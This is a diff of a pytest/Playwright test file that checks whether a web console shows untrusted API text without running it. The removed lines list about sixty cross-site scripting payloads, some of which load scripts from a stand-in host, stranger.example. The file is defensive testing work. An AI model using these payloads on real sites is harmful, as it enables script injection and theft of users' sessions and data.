@@ -1,129 +1,186 @@
-"""Texts of strangers are text: whatever an answer of the API has in its fields, no page runs it or fetches anything."""
+"""Texts of strangers are text: whatever an answer of the API has in its fields, pages show it, and nothing runs."""
 
 import itertools
-import json
+import os
 import re
+from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
-from addresses import ADDRESSES, address_of, name_of
-from playwright.sync_api import Page, Route
+from addresses import ADDRESSES, PATHS, URL, address_of, name_of
+from foreign import SAMPLES, fields_of
+from looking import enter, leave, markup, unseen
+from payloads import PAYLOADS
+from strangers import Strangers
 
-_URL = "https://stranger.example/x"
-_CODE = "alert(document.domain)"
-PAYLOADS = [
-    f"<script>{_CODE}</script>",
-    f"</title><script>{_CODE}</script>",
-    f"</script><script>{_CODE}</script>",
-    f"<ScRiPt src={_URL}></sCrIpT>",
-    f"<script src='{_URL}'></script>",
-    f"<script type=module>import '{_URL}'</script>",
-    f"<img src=x onerror={_CODE}>",
-    f"<img src={_URL}>",
-    f"<img src='{_URL}' srcset='{_URL} 2x'>",
-    f"<svg onload={_CODE}>",
-    f"<svg><script>{_CODE}</script></svg>",
-    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
-    f"<svg><a xlink:href='javascript:{_CODE}'><text y=9>x</text></a></svg>",
-    f"<svg><use href='{_URL}#x'/></svg>",
-    f"<svg><foreignObject><iframe src='javascript:{_CODE}'></iframe></foreignObject></svg>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}>",
-    f"<body onload={_CODE}>",
-    f"<iframe src='javascript:{_CODE}'></iframe>",
-    f"<iframe srcdoc='<script>parent.{_CODE}</script>'></iframe>",
-    f"<iframe src='{_URL}'></iframe>",
-    f"<object data='{_URL}'></object>",
-    f"<embed src='{_URL}'>",
-    f"<link rel=stylesheet href='{_URL}'>",
-    f"<link rel=preload as=script href='{_URL}'>",
-    f"<style>@import '{_URL}';</style>",
-    f"<style>body{{background:url({_URL})}}</style>",
-    f"<base href='{_URL}'>",
-    f"<meta http-equiv=refresh content='0;url={_URL}'>",
-    f"<form action='{_URL}'><button autofocus onfocus={_CODE}>x</button></form>",
-    f"<input autofocus onfocus={_CODE}>",
-    f"<select autofocus onfocus={_CODE}><option>x</select>",
-    f"<textarea autofocus onfocus={_CODE}></textarea>",
-    f"<details open ontoggle={_CODE}>x</details>",
-    f"<video><source onerror={_CODE}></video>",
-    f"<video poster='{_URL}' autoplay></video>",
-    f"<audio src=x onerror={_CODE}>",
-    f"<marquee onstart={_CODE}>x</marquee>",
-    f"<a href='javascript:{_CODE}'>x</a>",
-    f"<a href='java&#115;cript:{_CODE}'>x</a>",
-    f"<a href='data:text/html,<script>{_CODE}</script>'>x</a>",
-    f"javascript:{_CODE}",
-    f"JaVaScRiPt:{_CODE}//",
-    f"data:text/html,<script>{_CODE}</script>",
-    f"\x01javascript:{_CODE}",
-    f"'-{_CODE}-'",
-    f'"-{_CODE}-"',
-    f"`${{{_CODE}}}`",
-    f"${{{_CODE}}}",
-    f"{{{{constructor.constructor('{_CODE}')()}}}}",
-    f"' onmouseover='{_CODE}' x='",
-    f'" autofocus onfocus="{_CODE}" x="',
-    f"--><script>{_CODE}</script><!--",
-    f"]]><script>{_CODE}</script>",
-    f"\u2028{_CODE}\u2029",
-    f"&lt;script&gt;{_CODE}&lt;/script&gt;",
-    f"<x contenteditable onblur={_CODE} autofocus>x</x>",
-    f"<template><script>{_CODE}</script></template>",
-    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
-    f"@import url({_URL});",
-    f"<portal src='{_URL}'></portal>",
-]
-ROUNDS = 4
-# Words of a closed list, bytes, ids and moments stay: a page that could not read them would show nothing.
-_KEPT_NAMES = {"status", "mode", "code", "role", "scopes", "kind", "format", "key_base64", "value_base64"}
-_KEPT = re.compile(r"[0-9a-f-]{36}|\d{4}-\d\d-\d\dT.*")
-
-
-def poisoned(value: Any, payloads: Any, name: str = "") -> Any:
-    """The same JSON with another payload in the place of each text."""
-    if isinstance(value, dict):
-        return {key: poisoned(each, payloads, key) for key, each in value.items()}
-    if isinstance(value, list):
-        return [poisoned(each, payloads, name) for each in value]
-    if not isinstance(value, str) or name in _KEPT_NAMES or _KEPT.fullmatch(value):
-        return value
-    return next(payloads)
+# One request that is open and one that has ended have all that the page of a request shows.
+PAGES = [(path, sample) for path, sample in ADDRESSES if path != "/requests/{id}" or sample in {"running", "failed"}]
+# The texts of answers that each page shows. A page that loses one is at fault.
+SHOWN = {
+    "/": """LiveFrame.held_models PauseResource.model PauseResource.reason
+        TopicState.topic DepthOfModel.model NextRequest.model NextRequest.owner NextRequest.last_error StatsPoint.key
+        SessionCaller.username""",
+    "/requests": "RequestResource.model RequestResource.task_type RequestResource.reply RequestError.detail",
+    "/requests/{id}": """RequestDetail.model RequestDetail.owner RequestDetail.task_type RequestDetail.trace_id
+        RequestDetail.reply RequestDetail.metadata.name RequestDetail.metadata.* Message.content TextPart.text
+        CalledFunction.name CalledFunction.arguments RecordSource.topic AttemptError.detail
+        delta:text restart:text restart:last_error.detail reasoning.delta:text refusal.delta:text tool_call:call_id
+        tool_call:name tool_call.delta:arguments completed:reply""",
+    "/conversations": "ConversationResource.metadata.name ConversationResource.metadata.*",
+    "/conversations/{id}": """ConversationResource.metadata.name ConversationResource.metadata.* ModelObject.id
+        RequestResource.model RequestResource.reply RequestError.detail StoredMessage.role StoredMessage.content
+        StoredMessage.tool_call_id Message.content Message.tool_call_id CalledFunction.name CalledFunction.arguments
+        OutputText.text OutputRefusal.refusal ReasoningText.text FunctionCallItem.name FunctionCallItem.arguments
+        TextPart.text ImageUrl.url InputFile.filename InputAudio.format""",
+    "/dead-letters": "DeadLetterSummary.detail DeadLetterSummary.topic",
+    "/dead-letters/{id}": """DeadLetterResource.detail DeadLetterResource.topic DeadLetterResource.key
+        LetterHeader.name LetterHeader.value RequestError.detail""",
+    "/playground": "ModelObject.id",
+    "/models": "ModelObject.id ModelObject.aliases ModelObject.fallbacks ModelObject.owned_by",
+    "/agents": """AgentResource.name AgentResource.description AgentResource.model AgentResource.stop
+        AgentResource.answer_schema.name AgentResource.answer_schema.*""",
+    "/queue": """DepthOfModel.model HeldModel.model HeldModel.detail NextRequest.model NextRequest.owner
+        NextRequest.last_error PauseResource.model PauseResource.reason PauseResource.paused_by TopicState.topic""",
+    "/topics/{topic}/{partition}": "TopicRecord.key TopicRecord.value HeaderOfRecord.name HeaderOfRecord.value",
+    "/workers": "ModelOfWorker.model ModelOfWorker.detail TopicOfWorker.topic WorkerResource.version",
+    "/people": "UserResource.username",
+    "/keys": "KeyResource.id KeyResource.name UserResource.username",
+    "/audit": """AuditEntry.actor AuditEntry.action AuditEntry.target AuditEntry.before.name AuditEntry.before.*
+        AuditEntry.after.name AuditEntry.after.*""",
+}
+ALSO_SHOWN = {
+    "running": "Reason.detail",
+    "failed": "RequestError.detail",
+    "letter": "DeadLetterResource.value_base64",
+    "text_letter": "DeadLetterResource.value",
+}
+# What answers have besides: it is on no page, or behind a button of one.
+HIDDEN = """AuditEntry.trace_id DepthOfBoth.model FunctionCallItem.call_id InputAudio.data InputFile.file_data
+    LetterRecord.key LetterRecord.value Message.name Message.refusal ModelObject.description RecordList.topic
+    RequestResource.metadata.name RequestResource.metadata.* SessionCaller.key_id SessionCaller.key_name
+    SessionCaller.owner SessionCaller.tenant SessionResource.version ToolCall.id Usage.model"""
+# What is to be open on a page. The record is the one that the stranger adds.
+_OPENED = {"/topics/{topic}/{partition}": f"?record={SAMPLES['integer']}"}
+# Pages that show, or ask for, what is in their address.
+_OPEN = (
+    "/requests?model={}&owner={}&task_type={}", "/requests/{}", "/conversations/{}", "/dead-letters?reason={}",
+    "/topics/{}/0", "/queue?topic={}", "/playground?model={}", "/{}",
+)  # fmt: skip
+_FIELD = "correct horse battery staple"
+_PRESS = """(index) => {
+  const kinds = new Map();
+  for (const each of document.querySelectorAll("main :is(button, summary):not(:disabled)")) {
+    const text = each.textContent.trim().slice(0, 12) || (each.getAttribute("aria-label") ?? "").split(" ")[0];
+    if (!kinds.has(text)) kinds.set(text, each);
+  }
+  [...kinds.values()][index]?.click();
+  return index < kinds.size;
+}"""
+_SUBMIT = """async (text) => {
+  const dialog = document.querySelector("dialog[open]");
+  for (const each of dialog?.querySelectorAll("input:is([type=text], [type=password], :not([type])), textarea") ?? []) {
+    each.value = text;
+    each.dispatchEvent(new Event("input", { bubbles: true }));
+  }
+  dialog?.querySelector("[type=submit]:not(:disabled)")?.click();
+  await fetch("/v1/session");  // Calls are answered in their order: what was asked has its answer, too.
+}"""
 
 
-def poison(page: Page, first: int) -> None:
-    """Put payloads, from this one on, into every answer and every event of the API."""
-    payloads = itertools.cycle(PAYLOADS[first:] + PAYLOADS[:first])
-
-    def answer(route: Route) -> None:
-        if "/v1/live" in route.request.url:
-            route.continue_()
-            return
-        if "/events" in route.request.url:
-            data = [{"attempt": 1}, {"text": next(payloads)}, {"reply": next(payloads), "usage": None}]
-            names = ("started", "delta", "completed")
-            events = [
-                f"id: 1.1\nevent: {name}\ndata: {json.dumps(each)}\n\n" for name, each in zip(names, data, strict=True)
-            ]
-            route.fulfill(status=200, content_type="text/event-stream", body="".join(events))
-            return
-        response = route.fetch()
-        if "json" not in response.headers.get("content-type", ""):
-            route.fulfill(response=response)
-            return
-        route.fulfill(response=response, json=poisoned(response.json(), payloads))
-
-    page.route("**/v1/**", answer)
-
-
-@pytest.mark.parametrize("round", range(ROUNDS))
-@pytest.mark.parametrize(("path", "sample"), ADDRESSES, ids=name_of)
-def test_texts_stay_texts(path: str, sample: str, round: int, open_watched: Any, seen: dict[str, Any]) -> None:
-    """With a payload in each text of each answer a page opens no dialog, and makes no foreign call and no violation."""
+@pytest.mark.parametrize(("path", "sample"), PAGES, ids=name_of)
+def test_texts_stay_texts(path: str, sample: str, open_watched: Any, seen: dict[str, Any], document: Any) -> None:
+    """A page shows each text of its answers, each payload once in each; it runs none, and fetches nothing for one."""
     watched = open_watched()
-    poison(watched.page, round * len(PAYLOADS) // ROUNDS)
-    page = watched.open(address_of(path, sample, seen))
-    page.wait_for_selector(".dot.is-live")
-    watched.settle()
+    strangers = Strangers(watched.page, document)
+    address = address_of(path, sample, seen) + _OPENED.get(path, "")
+    page = watched.open(address)
+    shown = f"{SHOWN[path]} {ALSO_SHOWN.get(sample, '')}".split()
+    for round in range(len(PAYLOADS)):
+        leave(page)
+        strangers.round = round
+        enter(page, address)
 
+        assert [] == unseen(page, {field: strangers.sign(field) for field in shown})
+        assert [] == markup(page)
     assert [] == watched.problems()
-    assert 0 == page.locator("main :is(script, iframe, object, embed, img, link, style, base, form[action])").count()
+
+
+@pytest.mark.parametrize("refuses", [False, True], ids=["done", "refused"])
+@pytest.mark.parametrize(("path", "sample"), PAGES, ids=name_of)
+def test_texts_behind_buttons(
+    path: str, sample: str, refuses: bool, open_watched: Any, seen: dict[str, Any], document: Any
+) -> None:
+    """What each button opens, and what is said after it was done or refused, runs no text either."""
+    watched = open_watched(permissions=["clipboard-write"])
+    watched.expected = {409}
+    strangers = Strangers(watched.page, document)
+    strangers.refuses = {"post", "put", "patch", "delete"} if refuses else set()
+    address = address_of(path, sample, seen)
+    page = watched.open(address)
+    pressed = True
+    while pressed:
+        leave(page)
+        enter(page, address)
+        watched.settle()
+        pressed = page.evaluate(_PRESS, strangers.round)
+        page.evaluate(_SUBMIT, _FIELD)
+        watched.settle()
+        strangers.round += 1
+
+        assert [] == markup(page)
+    assert [] == watched.problems()
+
+
+def test_texts_of_refusals(open_watched: Any, seen: dict[str, Any], document: Any) -> None:
+    """If all calls of a page are refused, it says so in the words of the refusal, which are text."""
+    watched = open_watched()
+    watched.expected = {409}
+    strangers = Strangers(watched.page, document)
+    page = watched.open("/nowhere")
+    strangers.refuses = {"get", "post"}
+    for round, (path, sample) in enumerate(itertools.chain.from_iterable([PAGES] * 4)):
+        leave(page)
+        strangers.round = round
+        enter(page, address_of(path, sample, seen))
+
+        assert [] == [f"{path}: {each}" for each in unseen(page, {"Problem.title": strangers.sign("Problem.title")})]
+        assert [] == markup(page)
+    assert [] == watched.problems()
+
+
+def test_texts_of_addresses(open_watched: Any) -> None:
+    """What is in the address of a page, as in a link that a stranger sent, is text."""
+    watched = open_watched()
+    watched.expected = {400, 404, 422}
+    page = watched.open("")
+    for address, payload in itertools.product(_OPEN, PAYLOADS):
+        leave(page)
+        enter(page, address.replace("{}", quote(payload, safe="")))
+        watched.settle()
+
+        assert [] == markup(page)
+    assert [] == watched.problems()
+
+
+def test_what_would_run_is_seen(open_watched: Any) -> None:
+    """Where payloads are taken for markup, on a page without the console's policy, they run, and it is noticed."""
+    watched = open_watched()
+    page = watched.page
+    body = f"<!doctype html>{PAYLOADS[0]}<svg>{''.join(each for each in PAYLOADS if each.startswith('<img'))}"
+    page.route("**/console/markup", lambda route: route.fulfill(content_type="text/html", body=body))
+    page.goto(f"{URL}/console/markup")
+
+    assert "1" in watched.dialogs
+    assert [each for each in watched.foreign if "stranger.example" in each]
+    assert "<script>" in markup(page)[0]
+
+
+def test_every_text_is_looked_at(document: Any) -> None:
+    """Each text that a route of the console's can answer is shown by a page that is looked at, or known not to be."""
+    calls = "\n".join(each.read_text("utf-8") for each in Path(os.environ["CONSOLE_FOLDER"]).rglob("*.js"))
+    asked = set(re.findall(r'\bget\("(/[^"]+)"', calls))
+    fields = set().union(*(fields_of(document, path, "get") for path in asked))
+
+    assert set() == fields - set(" ".join([*SHOWN.values(), *ALSO_SHOWN.values(), HIDDEN]).split())
+    assert PATHS == [*SHOWN]
